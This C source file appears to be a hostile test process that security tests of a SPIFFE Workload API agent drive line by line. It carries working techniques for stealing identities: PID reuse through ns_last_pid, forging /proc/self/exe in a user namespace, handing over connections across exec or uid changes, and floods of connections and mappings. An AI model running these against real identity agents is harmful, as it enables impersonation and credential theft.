/* A hostile process that does as it is told, one line at a time, and answers each line with one of its own.
 *
 * It speaks just enough HTTP/2 to ask the Workload API for an identity over a connection whose maker has
 * become something else meanwhile, which no library would. In C: small to copy and quick to execute, with
 * forks, ids and memory under its own control. The orders are told in attacker.rs. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/prctl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static int connection = -1;
static unsigned stream = 1;

/* ---- asking ---------------------------------------------------------------------------------------- */

/* The preface and an empty SETTINGS frame, whose last byte is the one that ends the string. */
static const unsigned char GREETING[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0";

static int dial(int fd, const char *path) {
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    strncpy(to.sun_path, path, sizeof to.sun_path - 1);
    return connect(fd, (struct sockaddr *)&to, sizeof to);
}

/* Inherited over exec on purpose. An agent that says nothing for so long is not waited for. */
static int fresh_socket(void) {
    struct timeval patience = {.tv_sec = 40};
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    return fd;
}

static int tell(int fd, const void *bytes, size_t length) {
    return send(fd, bytes, length, MSG_NOSIGNAL) == (ssize_t)length;
}

/* FetchX509SVID, in HPACK without compression. */
static int request(int fd, unsigned id) {
    static const char HEADERS[] = "\x83\x86\x04\x20/SpiffeWorkloadAPI/FetchX509SVID\x01\x09localhost"
                                  "\x0f\x10\x10" "application/grpc" "\x00\x02te\x08trailers"
                                  "\x00\x12workload.spiffe.io\x04true";
    unsigned char bytes[256], *at = bytes;
    size_t length = sizeof HEADERS - 1;
    unsigned char head[9] = {0, 0, length, 1, 4, 0, 0, id >> 8, id};
    unsigned char body[14] = {0, 0, 5, 0, 1, 0, 0, id >> 8, id};
    memcpy(at, head, 9), at += 9;
    memcpy(at, HEADERS, length), at += length;
    memcpy(at, body, 14), at += 14;
    return tell(fd, bytes, at - bytes);
}

enum verdict { HELD, ENDED, CLOSED, SETTLED, SILENT };

/* Reads as many bytes; what hinders it otherwise. */
static int whole(int fd, unsigned char *to, size_t length, enum verdict *hindered) {
    while (length > 0) {
        ssize_t got = read(fd, to, length);
        *hindered = got < 0 && errno == EAGAIN ? SILENT : CLOSED;
        if (got <= 0) return 0;
        to += got, length -= got;
    }
    return 1;
}

/* Reads frames until one says something; what is held is put into `ids`, with a space before each. */
static enum verdict listen_to(int fd, int until_settings, char *ids, size_t room) {
    static unsigned char bytes[(1 << 16) + 1];
    unsigned char head[9];
    enum verdict hindered = CLOSED;
    ids[0] = 0;
    for (;;) {
        if (!whole(fd, head, 9, &hindered)) return hindered;
        size_t length = head[0] << 16 | head[1] << 8 | head[2];
        if (length >= sizeof bytes) return CLOSED;
        if (!whole(fd, bytes, length, &hindered)) return hindered;
        bytes[length] = 0;
        int type = head[3], flags = head[4];
        if (type == 4 && !(flags & 1)) {
            tell(fd, "\0\0\0\4\1\0\0\0\0", 9);
            if (until_settings) return SETTLED;
        } else if (type == 6 && !(flags & 1)) {
            unsigned char pong[17] = {0, 0, 8, 6, 1};
            memcpy(pong + 9, bytes, 8);
            tell(fd, pong, sizeof pong);
        } else if (type == 0 && length > 0) {
            unsigned char more[26] = {0, 0, 4, 8, 0, 0, 0, 0, 0, 0, 0, length >> 8, length,
                                      0, 0, 4, 8, 0, 0, 0, head[7], head[8], 0, 0, length >> 8, length};
            tell(fd, more, sizeof more);
            char *end = (char *)bytes + length;
            for (char *at = (char *)bytes + 2; at + 9 < end; at++) {
                /* The field of the message, not the name inside a certificate. */
                if (memcmp(at, "spiffe://", 9) || at[-2] != '\n') continue;
                size_t n = strcspn(at, "\x12");
                if (strlen(ids) + n + 2 < room) sprintf(ids + strlen(ids), " %.*s", (int)n, at);
            }
            return HELD;
        } else if ((type == 1 && flags & 1) || type == 3) {
            return ENDED;
        } else if (type == 7) {
            return CLOSED;
        }
    }
}

/* ---- being somebody else --------------------------------------------------------------------------- */

/* Makes /proc/self/exe show another program: nothing may be mapped from the real one any more, so each of
 * its mappings is replaced by a copy in place; the rest needs a user namespace, which anybody may make. */
static int forge(const char *program) {
    char own[4096] = "", line[4400];
    if (readlink("/proc/self/exe", own, sizeof own - 1) < 0) return 0;
    struct mapping { char *start; size_t length; int protection; } found[32];
    int count = 0;
    FILE *maps = fopen("/proc/self/maps", "r");
    while (maps && fgets(line, sizeof line, maps)) {
        unsigned long start, end;
        char rights[5], *path = strchr(line, '/');
        if (!path || sscanf(line, "%lx-%lx %4s", &start, &end, rights) != 3) continue;
        path[strcspn(path, "\n")] = 0;
        if (strcmp(path, own) || count == 32) continue;
        int protection = (rights[0] == 'r' ? PROT_READ : 0) | (rights[1] == 'w' ? PROT_WRITE : 0) |
                         (rights[2] == 'x' ? PROT_EXEC : 0);
        found[count++] = (struct mapping){(char *)start, end - start, protection};
    }
    if (maps) fclose(maps);
    for (int i = 0; i < count; i++) {
        struct mapping *at = &found[i];
        char *copy = mmap(NULL, at->length, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (copy == MAP_FAILED) return 0;
        memcpy(copy, at->start, at->length);
        if (mprotect(copy, at->length, at->protection)) return 0;
        if (mremap(copy, at->length, at->length, MREMAP_MAYMOVE | MREMAP_FIXED, at->start) == MAP_FAILED) return 0;
    }
    if (unshare(CLONE_NEWUSER)) return 0;
    unsigned long field[53] = {0};
    FILE *stat = fopen("/proc/self/stat", "r");
    if (!stat || !fgets(line, sizeof line, stat)) return 0;
    fclose(stat);
    char *at = strrchr(line, ')') + 2;
    for (int i = 3; i < 53 && at; i++, at = strchr(at, ' '), at = at ? at + 1 : at) field[i] = strtoul(at, NULL, 10);
    struct prctl_mm_map map = {
        .start_code = field[26], .end_code = field[27], .start_stack = field[28],
        .start_data = field[45], .end_data = field[46], .start_brk = field[47], .brk = (uint64_t)sbrk(0),
        .arg_start = field[48], .arg_end = field[49], .env_start = field[50], .env_end = field[51],
        .exe_fd = open(program, O_RDONLY | O_CLOEXEC)};
    return prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) == 0;
}

/* The maker of the connection goes on as something else, and an accomplice obeys in its place. */
static int behind(const char *what, char *argument) {
    int gone[2];
    if (pipe2(gone, O_CLOEXEC)) return 0;
    pid_t child = fork();
    if (child < 0) return 0;
    if (child == 0) {
        char byte;
        close(gone[1]);
        (void)!read(gone[0], &byte, 1); /* until the maker has ended, executed, or become somebody else */
        close(gone[0]);
        return 1;
    }
    if (!strcmp(what, "exec-behind")) {
        execl(argument, argument, "idle", NULL);
    } else if (!strcmp(what, "become-behind")) {
        uid_t id = atol(argument);
        if (setresgid(id, id, id) == 0 && setresuid(id, id, id) == 0) {
            close(gone[1]);
            for (;;) pause();
        }
    } else if (!strcmp(what, "stay-behind")) {
        close(gone[1]);
        for (;;) pause();
    }
    _exit(0);
}

/* ---- pids that are used again ---------------------------------------------------------------------- */

/* This user, and as the only other group this one: the groups alone tell two processes of one user apart. */
static int be(uid_t user, gid_t group) {
    return setgroups(1, &group) == 0 && setresgid(user, user, user) == 0 && setresuid(user, user, user) == 0;
}

static pid_t born_as(pid_t wanted, uid_t user, gid_t group) {
    for (int tries = 0; tries < 1000; tries++) {
        char number[32];
        int fd = open("/proc/sys/kernel/ns_last_pid", O_WRONLY | O_CLOEXEC);
        int length = snprintf(number, sizeof number, "%d", wanted - 1);
        int ready[2];
        if (fd < 0 || write(fd, number, length) != length || pipe2(ready, O_CLOEXEC)) return -1;
        close(fd);
        pid_t child = fork();
        if (child == 0) {
            prctl(PR_SET_PDEATHSIG, SIGKILL);
            if (getpid() != wanted || !be(user, group)) _exit(0);
            close(ready[0]), close(ready[1]);
            for (;;) pause();
        }
        char byte;
        close(ready[1]);
        (void)!read(ready[0], &byte, 1); /* until it is who it is to be, or is gone */
        close(ready[0]);
        if (child == wanted) return child;
        waitpid(child, NULL, 0); /* a thread of somebody else was quicker */
    }
    return -1;
}

/* A child of another user makes the connection that this process keeps, speaks as far as it is told to, and
 * is gone. */
enum far { CONNECTS, IS_ACCEPTED, IS_SERVED };

static pid_t make(int fd, const char *path, uid_t id, enum far far) {
    char ids[4096];
    int status = 0;
    pid_t child = fork();
    if (child == 0) {
        if (!be(id, id) || dial(fd, path)) _exit(1);
        if (far == CONNECTS) _exit(0);
        if (!tell(fd, GREETING, sizeof GREETING) || listen_to(fd, 1, ids, sizeof ids) != SETTLED) _exit(2);
        if (far == IS_ACCEPTED) _exit(0);
        _exit(request(fd, 1) && listen_to(fd, 0, ids, sizeof ids) == HELD ? 0 : 3);
    }
    return child > 0 && waitpid(child, &status, 0) == child && status == 0 ? child : -1;
}

static int fds[1000], heirs[1000], crowd;

/* That many connections whose makers have died, and whose pids others have. Every other heir is of the
 * maker's own user and runs its program, so that only the groups and the process itself are another's. */
static int inherit(const char *path, int count, uid_t maker, uid_t heir, enum far far) {
    static unsigned long born;
    for (crowd = 0; crowd < count; crowd++) {
        fds[crowd] = fresh_socket();
        pid_t dead = make(fds[crowd], path, maker, far);
        uid_t user = born++ % 2 ? heir : maker;
        if (dead < 0 || (heirs[crowd] = born_as(dead, user, heir)) < 0) return 0;
    }
    return 1;
}

/* How many of the crowd hear something; less than none if the agent says nothing at all. */
static long hear_all(void) {
    char ids[4096];
    long held = 0;
    enum verdict verdict = CLOSED;
    for (int i = 0; i < crowd; i++) {
        if (verdict != SILENT) verdict = listen_to(fds[i], 0, ids, sizeof ids);
        held += verdict == HELD;
        close(fds[i]);
        kill(heirs[i], SIGKILL);
        waitpid(heirs[i], NULL, 0);
    }
    return verdict == SILENT ? -1 : held;
}

/* Answers how many of such connections got something. Where the agent is to accept them only afterwards,
 * it is stopped meanwhile. */
static long reuse(const char *path, long rounds, uid_t maker, uid_t heir, pid_t agent) {
    long held = 0;
    while (rounds > 0) {
        int count = !agent ? 1 : rounds < 32 ? rounds : 32;
        if (agent) kill(agent, SIGSTOP);
        int made = inherit(path, count, maker, heir, agent ? CONNECTS : IS_ACCEPTED);
        if (agent) kill(agent, SIGCONT);
        if (!made) return -2;
        /* What cannot be sent, since the connection is closed, is not answered either. */
        for (int i = 0; i < count; i++) {
            if (agent) tell(fds[i], GREETING, sizeof GREETING);
            request(fds[i], 1);
        }
        long heard = hear_all();
        if (heard < 0) return heard;
        held += heard;
        rounds -= count;
    }
    return held;
}

/* ---- crowds ---------------------------------------------------------------------------------------- */

/* Processes that connect and die at once, in each way there is: silent, in the middle of a word, asking. */
static long connect_and_die(const char *path, long rounds) {
    long connected = 0;
    for (long round = 0; round < rounds; round++) {
        pid_t child = fork();
        if (child == 0) {
            int fd = fresh_socket();
            if (dial(fd, path)) _exit(1);
            if (round % 4 == 1) tell(fd, GREETING, 7);
            if (round % 4 >= 2) tell(fd, GREETING, sizeof GREETING);
            if (round % 4 == 3) request(fd, 1);
            _exit(0);
        }
        int status = 1;
        if (child < 0 || waitpid(child, &status, 0) != child) return -1;
        connected += status == 0;
    }
    return connected;
}

/* A crowd of processes at once that ask, in part after becoming another program, in part dying meanwhile. */
static long storm(const char *path, long rounds, const char *victim) {
    long held = 0, alive = 0;
    for (long round = 0; round < rounds || alive > 0;) {
        if (round < rounds && alive < 100) {
            pid_t child = fork();
            if (child == 0) {
                char ids[4096];
                int fd = fresh_socket();
                if (dial(fd, path) || !tell(fd, GREETING, sizeof GREETING) || !request(fd, 1)) _exit(0);
                if (round % 3 == 0) _exit(0);
                if (round % 3 == 1 && fork() == 0) execl(victim, victim, "quit", NULL);
                _exit(listen_to(fd, 0, ids, sizeof ids) == HELD ? 7 : 0);
            }
            if (child > 0) alive++, round++;
            if (child > 0 || alive == 0) continue;
        }
        int status = 0;
        if (wait(&status) > 0) alive--, held += WIFEXITED(status) && WEXITSTATUS(status) == 7;
    }
    return held;
}

/* Mappings of code without end, each of which the kernel records. */
static long flood(long rounds) {
    int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    for (long round = 0; round < rounds; round++) {
        void *at = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
        if (at == MAP_FAILED || munmap(at, 4096)) return -1;
    }
    return rounds;
}

/* ---- orders ---------------------------------------------------------------------------------------- */

static void answer(int ok) {
    if (ok) printf("ok\n");
    else printf("%s\n", errno ? strerror(errno) : "refused");
}

static void say(enum verdict verdict, const char *ids) {
    static const char *const WORDS[] = {"held", "ended", "closed", "ok", "silent"};
    printf("%s%s\n", WORDS[verdict], verdict == HELD ? ids : "");
}

static void obey(char *line) {
    char ids[4096], *word[6] = {line};
    for (int i = 1; i < 6 && word[i - 1]; i++) {
        word[i] = strchr(word[i - 1], ' ');
        if (word[i]) *word[i]++ = 0;
    }
    errno = 0;
    if (!strcmp(line, "connect")) {
        connection = fresh_socket();
        stream = 1;
        answer(dial(connection, word[1]) == 0);
    } else if (!strcmp(line, "greet")) { /* and waits until it has been accepted */
        if (!tell(connection, GREETING, sizeof GREETING)) say(CLOSED, "");
        else say(listen_to(connection, 1, ids, sizeof ids), ids);
    } else if (!strcmp(line, "ask")) {
        int sent = request(connection, stream);
        stream += 2;
        say(sent ? listen_to(connection, 0, ids, sizeof ids) : CLOSED, ids);
    } else if (!strcmp(line, "hear")) {
        enum verdict verdict = listen_to(connection, 0, ids, sizeof ids);
        say(verdict, ids);
    } else if (strstr(line, "-behind")) {
        answer(behind(line, word[1]));
    } else if (!strcmp(line, "become")) {
        uid_t id = atol(word[1]);
        answer(setresgid(id, id, id) == 0 && setresuid(id, id, id) == 0);
    } else if (!strcmp(line, "exec")) { /* keeps the connection and goes on obeying there */
        char fd[16], next[16];
        snprintf(fd, sizeof fd, "%d", connection);
        snprintf(next, sizeof next, "%u", stream);
        execl(word[1], word[1], "go-on", fd, next, NULL);
        answer(0);
    } else if (!strcmp(line, "forge")) {
        answer(forge(word[1]));
    } else if (!strcmp(line, "mount")) {
        answer(mount(word[1], word[2], NULL, MS_BIND, NULL) == 0);
    } else if (!strcmp(line, "be-traced")) { /* by a child that does nothing else */
        int ready[2];
        char byte = 0;
        if (pipe(ready)) return answer(0);
        pid_t self = getpid();
        prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY);
        if (fork() == 0) {
            if (ptrace(PTRACE_SEIZE, self, 0, 0) == 0) byte = 1;
            (void)!write(ready[1], &byte, 1);
            int status;
            while (waitpid(self, &status, __WALL) == self && WIFSTOPPED(status)) /* it would not even end */
                ptrace(PTRACE_CONT, self, 0, WSTOPSIG(status));
            _exit(0);
        }
        (void)!read(ready[0], &byte, 1);
        answer(byte == 1);
    } else if (!strcmp(line, "reuse-streams")) {
        int made = inherit(word[1], atoi(word[2]), atol(word[3]), atol(word[4]), IS_SERVED);
        printf("held %d\n", made ? crowd : -1);
    } else if (!strcmp(line, "hear-all")) {
        printf("held %ld\n", hear_all());
    } else if (!strcmp(line, "hang-up")) {
        answer(close(connection) == 0);
    } else if (!strcmp(line, "reuse")) {
        printf("held %ld\n", reuse(word[1], atol(word[2]), atol(word[3]), atol(word[4]), atol(word[5])));
    } else if (!strcmp(line, "connect-and-die")) {
        printf("connected %ld\n", connect_and_die(word[1], atol(word[2])));
    } else if (!strcmp(line, "flood")) {
        printf("mapped %ld\n", flood(atol(word[1])));
    } else if (!strcmp(line, "storm")) {
        printf("held %ld\n", storm(word[1], atol(word[2]), word[3]));
    } else if (!strcmp(line, "where")) {
        printf("%d\n", getpid());
    } else {
        printf("unknown: %s\n", line);
    }
}

int main(int argc, char **argv) {
    static char line[8192];
    const char *mode = argc > 1 ? argv[1] : "";
    if (!strcmp(mode, "quit")) return 0;
    if (!strcmp(mode, "idle")) {
        prctl(PR_SET_PDEATHSIG, SIGKILL); /* execution of a set-uid program has cleared it */
        for (;;) pause();
    }
    if (!strcmp(mode, "go-on")) {
        connection = atoi(argv[2]);
        stream = atoi(argv[3]);
        printf("ok\n");
    } else {
        prctl(PR_SET_PDEATHSIG, SIGKILL); /* not to outlive a test that failed */
        printf("ready\n");
    }
    fflush(stdout);
    while (fgets(line, sizeof line, stdin)) {
        line[strcspn(line, "\n")] = 0;
        obey(line);
        fflush(stdout);
    }
    _exit(0);
}
